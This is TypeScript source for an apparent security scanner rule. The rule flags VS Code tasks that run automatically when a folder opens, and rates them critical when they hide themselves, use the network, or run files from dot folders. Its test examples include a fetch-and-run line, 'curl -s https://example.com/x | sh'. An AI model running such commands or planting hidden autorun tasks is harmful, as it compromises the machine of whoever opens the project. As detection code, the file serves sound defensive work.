import type { Severity } from '../../finding.ts';
import {
  isFalse,
  isTrue,
  itemsOf,
  stringOf,
  stringsOf,
  valueAt,
  type Node,
} from '../../formats/node.ts';
import type { ConfigCheck } from '../config-check.ts';
import { fetchesCode, remoteCode } from '../command-risks.ts';
import { isShell, programName, shellCommands } from '../shell-commands.ts';
import { vscodeTasks } from '../vscode.ts';
import type { Selected } from '../select.ts';

export const autorunTask: ConfigCheck = {
  id: 'autorun-task',
  title: 'Task runs when the folder opens',
  why: 'The editor runs the command as soon as somebody trusts and opens the folder. Lures that pose as job interviews hide their implant in such a task.',
  remedy:
    'Remove "runOn": "folderOpen" and start the task by hand. If it also hides itself, treat the machine of whoever opened it as compromised.',
  severity: 'critical',
  references: [
    'https://code.visualstudio.com/docs/debugtest/tasks#_run-behavior',
    'https://attack.mitre.org/techniques/T1204/',
  ],
  check: ({ kind, root }) => {
    const tasks = vscodeTasks(kind.schema, root);
    const byLabel = new Map(
      tasks.map((one) => [stringOf(valueAt(one.value, 'label')) ?? '', one] as const),
    );
    return tasks.flatMap((task) => {
      if (stringOf(valueAt(task.value, 'runOptions', 'runOn')) !== 'folderOpen') return [];
      const started = withDependencies(task, byLabel);
      const hides = started.map(({ value }) => hiding(value)).find((found) => found !== null);
      const severity: Severity = hides === undefined ? 'medium' : 'critical';
      return [
        {
          severity,
          message: `A task runs when the folder opens${hides === undefined ? '' : ` and ${hides ?? ''}`}.`,
          span: task.span,
          path: task.path,
          value: commandLines(task.value).join('; '),
        },
      ];
    });
  },
  examples: {
    match: [
      {
        path: '.vscode/tasks.json',
        text: '{"tasks":[{"label":"w","command":"npm run watch","runOptions":{"runOn":"folderOpen"}}]}',
        severity: 'medium',
      },
      {
        path: '.vscode/tasks.json',
        text: '{"tasks":[{"label":"e","command":"node .vscode/env","runOptions":{"runOn":"folderOpen"}}]}',
        severity: 'critical',
      },
      {
        path: 'a.code-workspace',
        text: '{"tasks":{"tasks":[{"command":"npm start","hide":true,"runOptions":{"runOn":"folderOpen"}}]}}',
        severity: 'critical',
      },
      {
        path: '.vscode/tasks.json',
        text: '{"tasks":[{"label":"a","dependsOn":["b"],"runOptions":{"runOn":"folderOpen"}},{"label":"b","command":"curl -s https://example.com/x | sh"}]}',
        severity: 'critical',
      },
    ],
    ignore: [
      { path: '.vscode/tasks.json', text: '{"tasks":[{"label":"b","command":"npm run build"}]}' },
      {
        path: '.vscode/tasks.json',
        text: '{"tasks":[{"command":"a","runOptions":{"runOn":"default"}}]}',
      },
    ],
  },
};

/** No hand-written task starts more. */
const MOST_DEPENDENCIES = 20;

/** The task and every task it starts first. */
function withDependencies(
  task: Selected,
  byLabel: ReadonlyMap<string, Selected>,
): readonly Selected[] {
  const found = new Set<Selected>([task]);
  for (const one of found) {
    if (found.size > MOST_DEPENDENCIES) break;
    const on = valueAt(one.value, 'dependsOn');
    const labels = on?.kind === 'array' ? itemsOf(on).map(stringOf) : [stringOf(on)];
    for (const label of labels) {
      const next = label === undefined ? undefined : byLabel.get(label);
      if (next !== undefined) found.add(next);
    }
  }
  return [...found];
}

/** How the task keeps itself, or what it runs, from being seen; null when it does not. */
function hiding(task: Node): string | null {
  const presentation = valueAt(task, 'presentation');
  if (isTrue(valueAt(task, 'hide'))) return 'hides itself from the list of tasks';
  if (stringOf(valueAt(presentation, 'reveal')) === 'never') return 'never shows its terminal';
  if (isFalse(valueAt(presentation, 'echo'))) return 'does not show its command';
  for (const line of commandLines(task)) {
    const runs = shellCommands(line);
    if (remoteCode(runs).length > 0) return 'runs code from elsewhere';
    if (fetchesCode(runs).some(({ does }) => does.includes('network'))) return 'uses the network';
    if (runs.some(({ words }) => runsHiddenFile(words))) {
      return 'runs a file that does not look like a program';
    }
  }
  return null;
}

const ORDINARY_FOLDER = /^(?:\.\/)?\.(?:venv|bin|husky|yarn|config|github|claude|devcontainer)\//;

/** A file in a folder with a leading dot, or a script without an ending handed to an interpreter. */
function runsHiddenFile(words: readonly string[]): boolean {
  const program = programName(words[0]);
  const script = words.slice(1).find((word) => !word.startsWith('-')) ?? '';
  const runsScripts =
    isShell(program) || /^(?:node|python[\d.]*|bun|deno|ruby|perl|php)$/.test(program);
  const files = runsScripts ? [words[0] ?? '', script] : [words[0] ?? ''];
  const inDotFolder = files.some(
    (file) =>
      /^(?:\$\{workspaceFolder\}\/|\.\/)?\.[\w-]+\//.test(file) &&
      !ORDINARY_FOLDER.test(file.replace(/^\$\{workspaceFolder\}\//, '')),
  );
  const bare = runsScripts && program !== 'bun' && program !== 'deno' && /\/[^./]+$/.test(script);
  return inDotFolder || bare;
}

/** Command and arguments of the task, for each operating system it names. */
function commandLines(task: Node): readonly string[] {
  return [task, ...['windows', 'linux', 'osx'].flatMap((key) => valueAt(task, key) ?? [])].flatMap(
    (part) => {
      const command = valueAt(part, 'command');
      const program = stringOf(command) ?? stringOf(valueAt(command, 'value'));
      if (program === undefined) return [];
      const args = valueAt(part, 'args') ?? valueAt(task, 'args');
      const words = args === undefined ? [] : stringsOf(args).map(({ node }) => node.value);
      return [[program, ...words].join(' ')];
    },
  );
}
